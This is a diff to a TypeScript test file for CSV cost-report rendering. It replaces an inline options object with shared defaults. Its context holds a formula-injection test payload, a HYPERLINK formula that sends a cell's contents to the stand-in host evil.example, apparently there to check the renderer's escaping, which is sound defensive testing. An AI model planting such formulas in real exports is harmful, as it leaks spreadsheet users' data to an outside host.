@@ -14,6 +14,7 @@ import type { EventRow } from "../../lib/cost/events.ts";
 import type { ReportRow } from "../../lib/cost/report.ts";
 import { costCsv } from "../../lib/render/cost.ts";
 import { csvLine } from "../../lib/render/events.ts";
+import { COST_OPTIONS } from "../helpers/cost_options.ts";
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 
@@ -38,19 +39,7 @@ function event(over: Partial<EventRow> = {}): EventRow {
   };
 }
 
-const OPTIONS: CostOptions = {
-  all: true,
-  session: null,
-  sinceMs: null,
-  untilMs: null,
-  tz: "UTC",
-  by: ["project", "model"],
-  weekStart: "monday",
-  csv: true,
-  sort: "cost",
-  reverse: false,
-  limit: null,
-};
+const OPTIONS: CostOptions = { ...COST_OPTIONS, all: true, by: ["project", "model"], csv: true };
 
 function reportRow(key: string, over: Partial<ReportRow> = {}): ReportRow {
   return {
